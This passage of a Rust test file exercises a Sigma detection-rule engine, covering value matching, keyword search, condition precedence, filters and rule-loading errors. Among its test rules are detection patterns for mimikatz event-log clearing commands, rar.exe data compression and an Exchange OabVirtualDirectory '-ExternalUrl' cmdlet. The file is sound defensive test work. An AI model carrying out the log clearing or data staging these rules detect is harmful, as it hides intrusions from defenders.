            {"EventID": 4738, "PasswordLastSet": "%%1794"} => true,
            {"EventID": 4738, "PasswordLastSet": null} => false,
            {"EventID": 4738} => false,
        ],
    );
    check(
        r#"sel:
  Field: null
condition: sel"#,
        cases![
            {} => true,
            {"Field": null} => true,
            {"Field": ""} => false,
            {"Field": "x"} => false,
            {"Field": 0} => false,
        ],
    );
}

#[test]
fn empty_string_matches_only_empty() {
    check(
        r#"sel:
  Field: ''
condition: sel"#,
        cases![
            {"Field": ""} => true,
            {"Field": "x"} => false,
            {} => false,
        ],
    );
}

// ---------------------------------------------------------------------------
// Numbers vs strings, booleans
// ---------------------------------------------------------------------------

#[test]
fn numbers_and_strings_compare_as_values() {
    check(
        r#"sel:
  EventID: 4688
condition: sel"#,
        cases![
            {"EventID": 4688} => true,
            {"EventID": "4688"} => true,
            {"EventID": 4689} => false,
            {"EventID": "4689"} => false,
            {"EventID": 46880} => false,
        ],
    );
    check(
        r#"sel:
  EventID: '4688'
condition: sel"#,
        cases![
            {"EventID": 4688} => true,
            {"EventID": "4688"} => true,
            {"EventID": 46880} => false,
            {"EventID": "x4688"} => false,
        ],
    );
    check(
        r#"sel:
  EventID:
    - 1
    - 4688
condition: sel"#,
        cases![
            {"EventID": 1} => true,
            {"EventID": "4688"} => true,
            {"EventID": 3} => false,
        ],
    );
    check(
        r#"sel:
  EventID|startswith: '46'
condition: sel"#,
        cases![
            {"EventID": 4688} => true,
            {"EventID": 5156} => false,
        ],
    );
}

#[test]
fn booleans() {
    check(
        r#"sel:
  Enabled: true
condition: sel"#,
        cases![
            {"Enabled": true} => true,
            {"Enabled": "true"} => true,
            {"Enabled": false} => false,
            {"Enabled": "false"} => false,
        ],
    );
}

// ---------------------------------------------------------------------------
// Arrays in events
// ---------------------------------------------------------------------------

#[test]
fn arrays_match_when_any_member_does() {
    check(
        r#"sel:
  Tags: 'evil'
condition: sel"#,
        cases![
            {"Tags": ["good", "EVIL"]} => true,
            {"Tags": ["good", "evil-ish"]} => false,
            {"Tags": []} => false,
        ],
    );
    check(
        r#"sel:
  Hosts|endswith: '.onion'
condition: sel"#,
        cases![
            {"Hosts": ["a.com", "b.onion"]} => true,
            {"Hosts": ["a.com", "b.onion.com"]} => false,
        ],
    );
    check(
        r#"sel:
  Ports: 445
condition: sel"#,
        cases![
            {"Ports": [80, 445]} => true,
            {"Ports": ["80", "445"]} => true,
            {"Ports": [80, 443]} => false,
        ],
    );
    check(
        r#"sel:
  Addresses|cidr: '10.0.0.0/8'
condition: sel"#,
        cases![
            {"Addresses": ["8.8.8.8", "10.0.0.5"]} => true,
            {"Addresses": ["8.8.8.8"]} => false,
        ],
    );
}

// ---------------------------------------------------------------------------
// Lists and maps
// ---------------------------------------------------------------------------

#[test]
fn list_of_maps_is_or_map_is_and() {
    check(
        r#"sel:
  - Image|endswith: '\example.exe'
  - Description|contains: 'Test executable'
condition: sel"#,
        cases![
            {"Image": "C:\\example.exe"} => true,
            {"Description": "A Test executable!"} => true,
            {"Image": "C:\\other.exe", "Description": "x"} => false,
        ],
    );
    check(
        r#"sel:
  EventLog: Security
  EventID:
    - 517
    - 1102
condition: sel"#,
        cases![
            {"EventLog": "Security", "EventID": 517} => true,
            {"EventLog": "security", "EventID": 1102} => true,
            {"EventLog": "Security", "EventID": 4624} => false,
            {"EventLog": "System", "EventID": 1102} => false,
            {"EventID": 1102} => false,
        ],
    );
}

// ---------------------------------------------------------------------------
// Keywords
// ---------------------------------------------------------------------------

#[test]
fn keywords_list_is_or_over_the_whole_event() {
    check(
        r#"keywords:
  - 'event::clear'
  - 'event::drop'
condition: keywords"#,
        cases![
            {"CommandLine": "mimikatz EVENT::Clear"} => true,
            {"Other": "x", "Payload": "do event::drop now"} => true,
            {"Nested": {"Deep": "event::drop"}} => true,
            {"CommandLine": "event::list"} => false,
            {} => false,
        ],
    );
}

#[test]
fn keywords_all_needs_every_value() {
    check(
        r#"keywords_cmdlet:
  '|all':
    - 'OabVirtualDirectory'
    - ' -ExternalUrl '
condition: keywords_cmdlet"#,
        cases![
            {"Payload": "Set-OabVirtualDirectory -ExternalUrl http://x"} => true,
            {"A": "set-oabvirtualdirectory", "B": "x -externalurl y"} => true,
            {"Payload": "Set-OabVirtualDirectory -InternalUrl http://x"} => false,
            {"Payload": "x -ExternalUrl y"} => false,
        ],
    );
}

/// A field that another selection reads is lower-cased once, in the field
/// pass; the keyword text reuses that form (also for a second occurrence
/// of the name, and for arrays under a read field, which are not reused).
#[test]
fn keywords_see_fields_that_selections_read() {
    check(
        r#"sel:
  Image|endswith: '\\nothing.exe'
keywords:
  - 'event::clear'
condition: sel or keywords"#,
        cases![
            {"Image": "C:\\Tools\\EVENT::CLEAR.exe"} => true,
            {"Image": "c:\\tools\\event::clear.exe"} => true,
            {"Image": ["C:\\A.exe", "Mimikatz EVENT::Clear"]} => true,
            {"Image": "C:\\Nothing.EXE"} => true,
            {"Image": "C:\\x.exe", "CommandLine": "EVENT::List"} => false,
        ],
    );
}

#[test]
fn keywords_with_wildcards() {
    check(
        r#"keywords:
  - 'evil*service'
condition: keywords"#,
        cases![
            {"Msg": "the EVIL windows service started"} => true,
            {"Msg": "service evil"} => false,
        ],
    );
}

// ---------------------------------------------------------------------------
// Condition grammar
// ---------------------------------------------------------------------------

/// Three selections on fields A, B, C (each matches when its field is "x"),
/// plus `_aux` on field D.
const ABC: &str = r#"sel_a:
  A: x
sel_b:
  B: x
sel_c:
  C: x
_aux:
  D: x
"#;

fn abc(condition: &str) -> String {
    format!("{ABC}condition: {condition}")
}

/// An event with the given fields set to "x".
fn ev(fields: &str) -> Value {
    let mut m = serde_json::Map::new();
    for f in fields.chars() {
        m.insert(f.to_string(), json!("x"));
    }
    Value::Object(m)
}

fn check_cond(condition: &str, table: &[(&str, bool)]) {
    let cases: Vec<(Value, bool)> = table.iter().map(|(f, w)| (ev(f), *w)).collect();
    check(&abc(condition), &cases);
}

#[test]
fn condition_and_or_not() {
    check_cond(
        "sel_a and sel_b",
        &[("AB", true), ("A", false), ("B", false), ("", false)],
    );
    check_cond(
        "sel_a or sel_b",
        &[("AB", true), ("A", true), ("B", true), ("C", false)],
    );
    check_cond(
        "sel_a and not sel_b",
        &[("A", true), ("AB", false), ("B", false)],
    );
    check_cond("not sel_a", &[("", true), ("B", true), ("A", false)]);
}

#[test]
fn condition_precedence_or_and_not() {
    // and binds tighter than or: `a or (b and c)`.
    check_cond(
        "sel_a or sel_b and sel_c",
        &[
            ("A", true),
            ("B", false),
            ("C", false),
            ("BC", true),
            ("AC", true),
        ],
    );
    check_cond(
        "sel_b and sel_c or sel_a",
        &[("A", true), ("B", false), ("BC", true)],
    );
    // not binds tighter than and: `(not a) and b`.
    check_cond(
        "not sel_a and sel_b",
        &[("B", true), ("AB", false), ("", false), ("A", false)],
    );
    // not binds tighter than or: `(not a) or b`.
    check_cond(
        "not sel_a or sel_b",
        &[("", true), ("AB", true), ("A", false)],
    );
}

#[test]
fn condition_parentheses() {
    check_cond(
        "(sel_a or sel_b) and sel_c",
        &[("AC", true), ("BC", true), ("A", false), ("C", false)],
    );
    check_cond(
        "not (sel_a and sel_b)",
        &[("", true), ("A", true), ("AB", false)],
    );
    check_cond(
        "sel_a and (sel_b or not sel_c)",
        &[
            ("A", true),
            ("AB", true),
            ("AC", false),
            ("ABC", true),
            ("B", false),
        ],
    );
}

#[test]
fn condition_one_of_and_all_of_pattern() {
    check_cond(
        "1 of sel_*",
        &[("A", true), ("C", true), ("D", false), ("", false)],
    );
    check_cond(
        "all of sel_*",
        &[("ABC", true), ("AB", false), ("ABD", false)],
    );
    check_cond("all of sel_a*", &[("A", true), ("B", false)]);
    check_cond(
        "1 of sel_* and not 1 of _a*",
        &[("A", true), ("AD", false), ("D", false)],
    );
    // `x of` binds tighter than not / and / or.
    check_cond(
        "not 1 of sel_* or _aux",
        &[("", true), ("D", true), ("A", false), ("AD", true)],
    );
}

#[test]
fn condition_them_leaves_out_underscore_identifiers() {
    // `all of them`: every identifier not starting with `_`.
    check_cond(
        "all of them",
        &[("ABC", true), ("ABCD", true), ("AB", false)],
    );
    // `1 of them`: `_aux` alone does not count.
    check_cond("1 of them", &[("B", true), ("D", false), ("", false)]);
}

#[test]
fn condition_n_of_them() {
    check_cond(
        "2 of them",
        &[
            ("A", false),
            ("AB", true),
            ("AC", true),
            ("ABC", true),
            ("AD", false),
        ],
    );
    check_cond("2 of sel_*", &[("BC", true), ("C", false)]);
}

#[test]
fn condition_list_is_or() {
    let det = format!("{ABC}condition:\n  - sel_a and sel_b\n  - sel_c");
    let cases: Vec<(Value, bool)> = [("AB", true), ("C", true), ("A", false), ("", false)]
        .iter()
        .map(|(f, w)| (ev(f), *w))
        .collect();
    check(&det, &cases);
}

// ---------------------------------------------------------------------------
// Sigma filters
// ---------------------------------------------------------------------------

const RAR_ID: &str = "6f3e2987-db24-4c78-a860-b4f4095a7095";
const OTHER_ID: &str = "df0841c0-9846-4e9f-ad8a-7df91571771b";

fn rar_rule() -> String {
    rule_text_with(
        RAR_ID,
        "Data Compressed - rar.exe",
        r#"sel:
  Image|endswith: '\rar.exe'
condition: sel"#,
    )
}

fn other_rule() -> String {
    rule_text_with(
        OTHER_ID,
        "Any rar in a command line",
        r#"sel:
  CommandLine|contains: 'rar'
condition: sel"#,
    )
}

fn admin_filter(rules: &str, category: &str) -> String {
    format!(
        r#"title: Filter Administrator account
id: 2b0c9a77-0000-4000-8000-00000000f117
description: The valid administrator account start with adm_
logsource:
  category: {category}
  product: windows
filter:
  rules:
{rules}
  selection:
    User|startswith: 'adm_'
  condition: selection
"#
    )
}

#[test]
fn filter_suppresses_matches_of_the_rules_it_names() {
    let texts = [
        rar_rule(),
        other_rule(),
        admin_filter(&format!("    - {RAR_ID}"), "process_creation"),
    ];
    let (engine, report) = build(&Pipeline::default(), &texts);
    assert_eq!(report.loaded(), 3, "{:?}", report.entries);
    let admin = json!({"Image": "C:\\rar.exe", "CommandLine": "rar a x.rar", "User": "adm_bob"});
    let user = json!({"Image": "C:\\rar.exe", "CommandLine": "rar a x.rar", "User": "bob"});
    // Rule 0 (named by the filter) is suppressed for admins; rule 1 is not.
    assert_eq!(hits(&engine, &admin), [1]);
    assert_eq!(hits(&engine, &user), [0, 1]);
}

#[test]
fn filter_with_another_logsource_does_not_apply() {
    let texts = [
        rar_rule(),
        admin_filter(&format!("    - {RAR_ID}"), "image_load"),
    ];
    let (engine, _report) = build(&Pipeline::default(), &texts);
    let admin = json!({"Image": "C:\\rar.exe", "User": "adm_bob"});
    assert_eq!(hits(&engine, &admin), [0]);
}

#[test]
fn filter_naming_other_rules_does_not_apply() {
    let texts = [
        rar_rule(),
        admin_filter(
            "    - 00000000-0000-4000-8000-000000000000",
            "process_creation",
        ),
    ];
    let (engine, _report) = build(&Pipeline::default(), &texts);
    let admin = json!({"Image": "C:\\rar.exe", "User": "adm_bob"});
    assert_eq!(hits(&engine, &admin), [0]);
}

// ---------------------------------------------------------------------------
// The load report
// ---------------------------------------------------------------------------

#[test]
fn load_report_correlation_to_an_unknown_rule_is_invalid() {
    // Correlations are evaluated (tests/correlation.rs); one whose rule is not
    // in the set cannot be, and the report says which reference failed.
    let text = r#"title: Many failed logons
id: 0e95725d-7320-415d-80f7-004da920fc11
correlation:
  type: event_count
  rules:
    - 5638f7c0-ac70-491d-8465-2a65075e0d86
  group-by:
    - ComputerName
  timespan: 1h
  condition:
    gte: 100
"#;
    match outcome_of(&Pipeline::default(), text) {
        Outcome::Invalid(r) => assert!(r.contains("5638f7c0-ac70-491d-8465-2a65075e0d86"), "{r}"),
        o => panic!("expected invalid, got {o:?}"),
    }
}

#[test]
fn load_report_timestamp_part_modifier_is_unsupported() {
    let text = rule_text(
        r#"sel:
  Timestamp|hour: 3
condition: sel"#,
    );
    match outcome_of(&Pipeline::default(), &text) {
        Outcome::Unsupported(r) => assert!(r.contains("timestamp-part"), "{r}"),
        o => panic!("expected unsupported, got {o:?}"),
    }
}

#[test]
fn load_report_bad_regex_is_invalid() {
    let text = rule_text(
        r#"sel:
  CommandLine|re: 'foo(bar'
condition: sel"#,
    );
    match outcome_of(&Pipeline::default(), &text) {
        Outcome::Invalid(r) => assert!(r.contains("regex"), "{r}"),
        o => panic!("expected invalid, got {o:?}"),
    }
}

#[test]
fn load_report_unknown_detection_in_condition_is_invalid() {
    let text = rule_text(
        r#"selection:
  Image: x
condition: selection and not filter"#,
    );
    match outcome_of(&Pipeline::default(), &text) {
        Outcome::Invalid(r) => assert!(r.contains("filter"), "{r}"),
        o => panic!("expected invalid, got {o:?}"),
    }
}

#[test]
fn load_report_selector_matching_nothing_is_invalid() {
    let text = rule_text(
        r#"selection:
  Image: x
condition: selection and not 1 of filter_*"#,
    );
    assert!(
        matches!(outcome_of(&Pipeline::default(), &text), Outcome::Invalid(_)),
        "a selector that matches no detection is invalid"
    );
}

#[test]
fn load_report_counts_every_document() {
    let texts = [
        rule_text("sel:\n  A: x\ncondition: sel"),
        rule_text("sel:\n  A|re: '('\ncondition: sel"),
        rule_text("sel:\n  A|minute: 3\ncondition: sel"),
    ];
    let (engine, report) = build(&Pipeline::default(), &texts);
    assert_eq!(engine.len(), 1);
    assert_eq!(
        (report.loaded(), report.invalid(), report.unsupported()),
        (1, 1, 1),
        "{:?}",
        report.entries
    );
}

// ---------------------------------------------------------------------------
// Edge cases found while writing these tests
// ---------------------------------------------------------------------------

#[test]
fn null_in_a_value_list() {
    check(
        r#"sel:
  Field:
    - null
    - 'x'
condition: sel"#,
        cases![
            {} => true,
            {"Field": null} => true,
            {"Field": "X"} => true,
            {"Field": "y"} => false,
        ],
    );
}

// `?` replaces a single character of the event's text; case-insensitive
// matching must not change how many characters the text has. `İ` (U+0130)
// lower-cases to two characters (`i` + U+0307).
#[test]
#[ignore = "known limitation: `?` does not match a character whose lower-case form is longer (İ U+0130 -> i + U+0307): globs run on the lower-cased text"]
fn single_wildcard_matches_one_character_of_the_event_text() {
    check(
        r#"sel:
  Image: 'prog?.exe'
condition: sel"#,
        cases![
            {"Image": "progİ.exe"} => true,
        ],
    );
}

// Values are compared as values: integers beyond 2^53 must not compare
// equal to their neighbours.
#[test]
fn large_integers_compare_exactly() {
    check(
        r#"sel:
  Id: 9007199254740993
condition: sel"#,
        cases![
            {"Id": 9007199254740993u64} => true,
            {"Id": 9007199254740992u64} => false,
            {"Id": "9007199254740992"} => false,
        ],
    );
}
